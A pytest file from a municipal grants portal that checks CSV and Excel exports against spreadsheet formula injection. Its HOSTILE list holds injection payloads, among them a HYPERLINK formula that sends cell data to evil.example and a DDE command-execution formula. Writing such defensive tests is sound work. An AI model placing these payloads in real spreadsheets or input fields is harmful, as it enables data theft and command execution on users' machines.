"""Every CSV and XLSX the portal writes neutralises cells a spreadsheet program would run
(OWASP "CSV Injection": a leading ``=``, ``+``, ``-``, ``@``, tab or CR), through the real
views: the public 360Giving CSV, the finance department's payment file, the dashboard's CSV
and Excel exports and the yearly mapping. Organisations, account holders, programmes, calls,
focus areas, districts and target groups are named with formulas; each cell is read back
(the csv module; the XLSX's XML) and must not start a formula, while the name is still
there to read and real numbers are still numbers."""

import csv
import io
import re
import zipfile
from datetime import timedelta
from decimal import Decimal
from pathlib import Path
from xml.etree import ElementTree

import pytest
from django.conf import settings
from django.urls import reverse
from django.utils import timezone

from grants import services as grant_services
from grants.models import Application
from insights import reports
from insights.rollups import rollups_refresh
from organisations.models import PayoutAccount
from portal import spreadsheets
from portal.models import FocusArea
from tests.factories import (
    CallFactory,
    DistrictFactory,
    GrantProgrammeFactory,
    NetworkFactory,
    TargetGroupFactory,
)
from tests.grants.helpers import decide, eligible_organisation, submitted

pytestmark = pytest.mark.django_db
YEAR = timezone.localdate().year

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Fisksätra IF")',
    '=cmd|"/c calc"!A1',
    "+1",
    "@SUM(1)",
    "-2+3",
    "\t=1+1",
    "\r=2+2",
    " =3+3",
    "\uff1d4+4",  # a full-width equals sign
]
BENIGN = ["Fisksätra IF", "", "Nacka 2030", "'citat", "e-post", "IF Hjärtat - Orminge"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
NUMBER = re.compile(r"-?\d+([.,]\d+)?")  # a decimal comma in the Swedish CSV


def name(n: int, kind: str) -> str:
    """The n-th hostile name, made unique for ``kind`` (e.g. two organisations' names)."""
    return f"{HOSTILE[n % len(HOSTILE)]} {kind} {n}"


def assert_cells_safe(cells: list[str]) -> None:
    for value in cells:
        if NUMBER.fullmatch(value):
            continue  # a real number (a negative one is no formula)
        assert not value.lstrip().startswith(FORMULA_STARTS), repr(value)
        assert not value.startswith(FORMULA_STARTS), repr(value)


def assert_names_readable(cells: list[str], names) -> None:
    """Each name is still there, whole, after the apostrophe that makes it text."""
    for expected in names:
        assert "'" + expected in cells, (expected, cells)


def csv_cells(content: str, delimiter=",") -> list[str]:
    rows = csv.reader(io.StringIO(content.removeprefix("\ufeff"), newline=""), delimiter=delimiter)
    return [value for row in rows for value in row]


MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def _parse(xml: bytes):
    """The portal's own export, just written by XlsxWriter: trusted XML."""
    return ElementTree.fromstring(xml)  # noqa: S314 - our own file, no entities


def _text(element) -> str:
    """A string item's text, XlsxWriter's _xHHHH_ escapes of control characters decoded."""
    raw = "".join(t.text or "" for t in element.iter(f"{MAIN}t"))
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), raw)


def xlsx_cells(content: bytes) -> tuple[list[str], list[float]]:
    """(text cells, number cells) of every sheet; fails on any formula."""
    texts, numbers = [], []
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        shared = []
        if "xl/sharedStrings.xml" in book.namelist():
            root = _parse(book.read("xl/sharedStrings.xml"))
            shared = [_text(item) for item in root.iter(f"{MAIN}si")]
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets
        for sheet in sheets:
            for c in _parse(book.read(sheet)).iter(f"{MAIN}c"):
                assert c.find(f"{MAIN}f") is None, f"a formula in {sheet} {c.get('r')}"
                kind, value = c.get("t"), c.find(f"{MAIN}v")
                if kind == "s":
                    texts.append(shared[int(value.text)])
                elif kind == "inlineStr":
                    texts.append(_text(c))
                elif kind in (None, "n") and value is not None:
                    numbers.append(float(value.text))
                else:
                    assert value is None, (kind, c.get("r"))
    return texts, numbers


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_becomes_text_that_keeps_the_whole_name(value):
    assert spreadsheets.cell(value) == "'" + value
    assert spreadsheets.cell(value).startswith("'")


@pytest.mark.parametrize("value", BENIGN)
def test_ordinary_text_is_unchanged(value):
    assert spreadsheets.cell(value) == value


@pytest.mark.parametrize("value", [0, 8000, -8000, -2.5, Decimal("-1234.50"), Decimal("0.00")])
def test_real_numbers_stay_numbers(value):
    assert spreadsheets.cell(value) == value
    assert spreadsheets.cell(None) == ""


def test_no_module_writes_csv_or_xlsx_past_the_shared_helper():
    """A new export cannot forget the neutralising: only portal/spreadsheets.py may use the
    csv writer or XlsxWriter directly."""
    writers = re.compile(r"csv\.(writer|DictWriter)\b|import xlsxwriter|xlsxwriter\.Workbook")
    root = Path(settings.BASE_DIR)
    offenders = [
        str(path.relative_to(root))
        for app in ("portal", "organisations", "grants", "networks", "insights")
        for path in (root / app).rglob("*.py")
        if path != root / "portal" / "spreadsheets.py" and writers.search(path.read_text())
    ]
    assert offenders == []


@pytest.fixture
def hostile_grants(world):
    """Granted, paid-out applications in Nacka whose every name is a formula."""
    x, officer = world.x, world.users["officer_x"]
    committee = x.committees.get()
    focus = FocusArea.objects.create(municipality=x, name=name(0, "fokus"), slug="fokus-0")
    district = DistrictFactory(municipality=x, name=name(1, "kommundel"))
    target = TargetGroupFactory(municipality=x, name=name(2, "målgrupp"))
    programme = GrantProgrammeFactory(committee=committee, name=name(3, "program"))
    programme.target_groups.add(target)
    call = CallFactory(programme=programme, focus_area=focus, budget=10**6, title=name(4, "utlys"))
    decisions, organisations, holders = [], [], []
    for n in range(len(HOSTILE)):
        organisation = eligible_organisation(x)
        organisation.name = name(n, "förening")
        organisation.district = district
        organisation.save()
        organisation.focus_areas.add(focus)
        holders.append(name(n + 1, "kontohavare"))
        PayoutAccount.objects.create(
            organisation=organisation, method="bankgiro", number="5050-1055",
            account_holder=holders[-1],
        )  # fmt: skip
        application = submitted(call, "1234.50", organisation=organisation)
        Application.objects.filter(pk=application.pk).update(
            submitted_at=timezone.now().replace(year=YEAR, month=6, day=1)
        )
        decisions.append(decide(application, officer, amount="1234.50"))
        organisations.append(organisation.name)
    # Last year more was applied for: this year's change is a negative number.
    last_year = submitted(CallFactory(programme=programme, budget=10**6), "900000")
    Application.objects.filter(pk=last_year.pk).update(
        submitted_at=timezone.now().replace(year=YEAR - 1, month=6, day=1)
    )
    network = NetworkFactory(municipality=x)
    network.focus_areas.add(focus)
    network.districts.add(district)
    rollups_refresh(x)
    return {
        "decisions": decisions,
        "organisations": organisations,
        "holders": holders,
        "labels": [focus.name, district.name, target.name],
        "programme": programme.name,
        "call": call.title,
        "committee": committee,
    }


def test_open_data_csv(client, hostile_grants):
    response = client.get(reverse("grants:granted_csv", args=["nacka"]))
    assert response.status_code == 200
    cells = csv_cells(response.getvalue().decode())
    assert_cells_safe(cells)
    assert_names_readable(cells, hostile_grants["organisations"])
    assert_names_readable(cells, hostile_grants["labels"][:2])  # focus area, district
    assert_names_readable(cells, [hostile_grants["programme"]])
    assert "1234.5" in cells  # the amount is still a number


def test_payment_file(client, world, hostile_grants):
    officer = world.users["officer_x"]
    batch, refused = grant_services.payout_batch_create(
        committee=hostile_grants["committee"], decisions=hostile_grants["decisions"],
        payment_date=timezone.localdate() + timedelta(days=1), by=officer,
    )  # fmt: skip
    assert refused == []
    client.force_login(officer)
    response = client.get(reverse("admin:grants_payoutbatch_file", args=[batch.pk]))
    assert response.status_code == 200
    content = response.content.decode()
    assert_cells_safe(csv_cells(content, delimiter=";"))
    rows = list(csv.DictReader(io.StringIO(content, newline=""), delimiter=";"))
    assert len(rows) == len(HOSTILE)
    assert {row["Mottagare"] for row in rows} == {"'" + h for h in hostile_grants["holders"]}
    assert {row["Organisation"] for row in rows} == {
        "'" + o for o in hostile_grants["organisations"]
    }
    assert {row["Bidragsprogram"] for row in rows} == {"'" + hostile_grants["programme"]}
    # What the finance system reads stays as it was: amounts, account, method, currency.
    assert {
        (r["Belopp"], r["Belopp_ore"], r["Betalsatt"], r["Kontonummer"], r["Valuta"]) for r in rows
    } == {("1234.50", "123450", "BG", "5050-1055", "SEK")}


def test_dashboard_csv_and_xlsx(client, world, hostile_grants):
    client.force_login(world.users["politician_x"])
    years = {"year_from": YEAR, "year_to": YEAR}
    export = reverse("insights:dashboard_export", args=["nacka", "csv"])
    page = client.get(reverse("insights:dashboard", args=["nacka"]), years)
    tables = page.context["tables"]
    shown = []
    for table in tables:
        response = client.get(export, {**years, "table": table.key})
        assert response.status_code == 200, table.key
        cells = csv_cells(response.content.decode(), delimiter=";")
        assert_cells_safe(cells)
        shown += cells
    assert_names_readable(shown, hostile_grants["labels"])
    summary = next(t for t in tables if t.key == "summary")
    change = summary.rows[1][3]  # applied for: this year against the year before
    assert change < 0
    # a negative number, written as the number it is (decimal comma for Swedish Excel)
    assert spreadsheets.number_text(change.quantize(Decimal("0.01")), ",") in shown

    response = client.get(reverse("insights:dashboard_export", args=["nacka", "xlsx"]), years)
    assert response.status_code == 200
    texts, numbers = xlsx_cells(response.content)
    assert_cells_safe(texts)
    assert_names_readable(texts, hostile_grants["labels"])
    assert float(change) in numbers  # a number cell, not text


def test_yearly_mapping_xlsx(client, world, hostile_grants):
    report = reports.yearly_mapping(world.x, YEAR)
    client.force_login(world.users["politician_x"])
    response = client.get(reverse("insights:report", args=["nacka", report.pk]))
    assert response.status_code == 200
    texts, numbers = xlsx_cells(response.content)
    assert_cells_safe(texts)
    assert_names_readable(texts, hostile_grants["labels"][:2])  # focus area, district
    assert len(HOSTILE) in numbers  # the organisations in the cell, still a count
